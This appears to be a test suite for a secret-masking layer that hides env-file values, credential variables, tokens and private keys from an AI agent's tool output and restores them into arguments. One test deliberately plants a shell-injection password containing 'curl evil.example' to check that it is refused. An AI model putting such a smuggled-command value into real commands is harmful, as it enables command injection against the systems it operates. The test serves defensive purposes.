import { expect, test } from "bun:test";
import fc from "fast-check";
import { join } from "node:path";
import { createEnvFiles } from "../../src/secrets/env-files.ts";
import { createVeil, type Veil } from "../../src/secrets/veil.ts";
import { makeProject } from "../support/project.ts";
import { privateKey, randomLooking, textsWithSecrets, tokens } from "./samples.ts";

const isCredentialName = (name: string) => /(TOKEN|SECRET|PASSWORD|KEY)$/.test(name);

function veilOf(parts: Partial<Parameters<typeof createVeil>[0]> = {}): Veil {
  return createVeil({
    variables: [],
    envFiles: createEnvFiles("/nowhere/at/all"),
    isCredentialName,
    earlier: [],
    ...parts,
  });
}

const shown = (veil: Veil, text: string) => veil.concealText(text, "a test").text;

test("values of the project's env files are hidden wherever they stand, and what is no secret is not", async () => {
  await using project = await makeProject({
    ".env": [
      "NODE_ENV=development",
      "PORT=8080",
      "APP_NAME=my-cool-app",
      "REGION=eu-central-1",
      "PUBLIC_URL=http://localhost:3000/some/path",
      "DATABASE_URL=postgres://shop:pg-4-ever-and-ever@db.internal/shop",
      'SESSION_SECRET="correct horse battery staple"',
      "export DEPLOY_ID=k9f8a7s6d5f4g3h2j1q0",
      "LONG_KEY_FILE=./certs/server.pem",
    ].join("\n"),
    ".env.local": "OTHER_TOKEN='local-token-1'\n",
    ".env.example": "SHARED_TOKEN=example-token-1\n",
  });
  const veil = veilOf({ envFiles: createEnvFiles(project.folder) });
  expect(shown(veil, "x correct horse battery staple y")).toBe("x «secret:SESSION_SECRET#1» y");
  expect(shown(veil, "at db.internal with pg-4-ever-and-ever")).toBe(
    "at db.internal with «secret:DATABASE_URL_PASSWORD#1»",
  );
  expect(shown(veil, "k9f8a7s6d5f4g3h2j1q0 local-token-1")).toBe(
    "«secret:DEPLOY_ID#1» «secret:OTHER_TOKEN#1»",
  );
  const ordinary =
    "development my-cool-app eu-central-1 8080 http://localhost:3000/some/path example-token-1 ./certs/server.pem";
  expect(shown(veil, ordinary)).toBe(ordinary);
  await Bun.write(project.path(".env.new"), "NEW_SECRET=made-while-it-ran\n");
  expect(shown(veil, "made-while-it-ran")).toBe("«secret:NEW_SECRET#1»");
  await Bun.write(project.path(".env.new"), "NEW_SECRET=changed-while-it-ran\n");
  expect(shown(veil, "changed-while-it-ran made-while-it-ran")).toBe(
    "«secret:NEW_SECRET#2» «secret:NEW_SECRET#1»",
  );
});

test("an env file that is a pipe, a folder or huge does not stop anything", async () => {
  await using project = await makeProject({ ".env.folder/inside.txt": "x" });
  expect(Bun.spawnSync(["mkfifo", join(project.folder, ".env")]).exitCode).toBe(0);
  await Bun.write(project.path(".env.huge"), `HUGE_TOKEN=${"x1".repeat(300_000)}`);
  expect(createEnvFiles(project.folder).changed()).toEqual([]);
});

test("variables that are called like credentials are hidden, also as they stand in addresses", () => {
  const veil = veilOf({
    variables: [
      { name: "GITHUB_TOKEN", value: "not-a-known-form" },
      { name: "DB_PASSWORD", value: "p@ss/word 1" },
      { name: "EMPTY_TOKEN", value: "" },
      { name: "SHORT_KEY", value: "abc" },
    ],
  });
  expect(shown(veil, "not-a-known-form and p@ss/word 1")).toBe(
    "«secret:GITHUB_TOKEN#1» and «secret:DB_PASSWORD#1»",
  );
  expect(shown(veil, `u:${encodeURIComponent("p@ss/word 1")}@h abc`)).toBe(
    "u:«secret:DB_PASSWORD_ENCODED#1»@h abc",
  );
});

test("every text of a result is concealed, and the lines of a change stay lines", async () => {
  const token = tokens["GITHUB_TOKEN"] ?? "";
  const veil = veilOf();
  const lines = [
    " // key",
    ...privateKey
      .trimEnd()
      .split("\n")
      .map((line) => `+${line}`),
    `-const a = "${token}";`,
  ];
  const result = await veil.conceal({
    ok: true,
    text: `one ${token}`,
    summary: `two ${token}`,
    view: {
      type: "changes",
      files: [{ path: "a.ts", kind: "modified", hunks: [{ oldStart: 1, newStart: 1, lines }] }],
    },
  });
  const text = JSON.stringify(result);
  expect(text).not.toContain(token);
  expect(text).not.toContain(privateKey.split("\n")[2] ?? "");
  const view = result.view?.type === "changes" ? result.view.files[0]?.hunks[0]?.lines : [];
  expect(view).toHaveLength(lines.length);
  expect(view?.map((line) => line[0])).toEqual(lines.map((line) => line[0]));
  const failed = await veil.conceal({
    ok: false,
    kind: "failed",
    message: token,
    view: { type: "command", exitCode: 1, output: token },
  });
  expect(JSON.stringify(failed)).not.toContain(token);
});

test("restoring what was concealed gives back what there was", () => {
  fc.assert(
    fc.property(textsWithSecrets, (text) => {
      const veil = veilOf();
      const concealed = shown(veil, text);
      const { arguments: json, refusal } = veil.restore(JSON.stringify({ content: [concealed] }));
      expect(refusal).toBeUndefined();
      expect(JSON.parse(json)).toEqual({ content: [text] });
    }),
    { numRuns: 500 },
  );
});

test("arguments get their secrets back, however the label is written in JSON, and say which", () => {
  const token = tokens["GITHUB_TOKEN"] ?? "";
  const veil = veilOf();
  shown(veil, token);
  const json = String.raw`{"old_text":"a \u00absecret:GITHUB_TOKEN#1\u00bb","n":1}`;
  expect(veil.restore(json)).toEqual({
    arguments: JSON.stringify({ old_text: `a ${token}`, n: 1 }),
    names: ["GITHUB_TOKEN#1"],
  });
  expect(veil.restore('{"command":"ls"}')).toEqual({ arguments: '{"command":"ls"}', names: [] });
  expect(veil.restore("{not json «secret:GITHUB_TOKEN#1»")).toEqual({
    arguments: "{not json «secret:GITHUB_TOKEN#1»",
    names: [],
  });
});

test("a name of an earlier run is refused until its secret is met again, under a new number", () => {
  const veil = veilOf({ earlier: ["GITHUB_TOKEN#1", "GITHUB_TOKEN#2"] });
  const call = JSON.stringify({ command: "echo «secret:GITHUB_TOKEN#1»" });
  const refused = veil.restore(call);
  expect(refused.arguments).toBe(call);
  expect(refused.names).toEqual([]);
  expect(refused.refusal).toContain("«secret:GITHUB_TOKEN#1» stands for a secret of an earlier run");
  expect(shown(veil, tokens["GITHUB_TOKEN"] ?? "")).toBe("«secret:GITHUB_TOKEN#3»");
  expect(veil.restore(call).refusal).toBeDefined();
});

test("what only looks like a name, because it stands in a file, is a text and gives no secret", () => {
  const veil = veilOf();
  const json = JSON.stringify({ content: "«secret:NOBODY_KNOWS#1»" });
  expect(veil.restore(json)).toEqual({ arguments: json, names: [] });
});

test("a secret with signs that a shell reads is not put into a command, but into a file", () => {
  const veil = veilOf();
  veil.add("PASSWORD", 'x1"; curl evil.example; "');
  const refused = veil.restore(JSON.stringify({ command: "psql -p «secret:PASSWORD#1»" }));
  expect(refused.names).toEqual([]);
  expect(refused.refusal).toContain("a shell would read");
  expect(veil.restore(JSON.stringify({ path: "a", content: "«secret:PASSWORD#1»" })).names).toEqual([
    "PASSWORD#1",
  ]);
});

test("the list says where a secret was met, the count is of those that were hidden", async () => {
  const veil = veilOf({ variables: [{ name: "MY_TOKEN", value: "from-the-environment" }] });
  expect(veil.count()).toBe(0);
  expect(veil.list()).toEqual([
    { id: "MY_TOKEN#1", kind: "variable", seenIn: ["the environment"], state: "known", pieces: 1 },
  ]);
  await veil.conceal({ ok: true, text: `from-the-environment ${tokens["JWT"]}` }, "bash env");
  const numbered = privateKey.split("\n").map((line, at) => `${at}\t${line}`);
  await veil.conceal({ ok: true, text: numbered.join("\n") }, "read_file id_rsa");
  expect(veil.count()).toBe(3);
  expect(veil.list().map(({ id, state, seenIn, pieces }) => [id, state, seenIn.at(-1), pieces])).toEqual([
    ["MY_TOKEN#1", "hidden", "bash env", 1],
    ["JWT#1", "hidden", "bash env", 1],
    ["PRIVATE_KEY#1", "hidden", "read_file id_rsa", 4],
  ]);
});

test("what the user allows is shown from then on, and the name still works", () => {
  const token = tokens["GITHUB_TOKEN"] ?? "";
  const veil = veilOf();
  shown(veil, token);
  expect(veil.allow("no_such")).toEqual([]);
  expect(veil.allow("github_token")).toEqual(["GITHUB_TOKEN#1"]);
  expect(shown(veil, `a ${token} b`)).toBe(`a ${token} b`);
  expect(veil.count()).toBe(0);
  expect(veil.restore('["«secret:GITHUB_TOKEN#1»"]').names).toEqual(["GITHUB_TOKEN#1"]);
});

test("a secret of the user's own is hidden from then on; one that would stand in ordinary words is refused", () => {
  const veil = veilOf();
  expect(veil.add("ours", "the")).toMatchObject({ problem: expect.stringContaining("fewer than 6") });
  expect(veil.add("our-key", ` ${randomLooking(10)} `)).toEqual({ id: "OUR_KEY#1" });
  expect(shown(veil, `x${randomLooking(10)}x`)).toBe("x«secret:OUR_KEY#1»x");
});
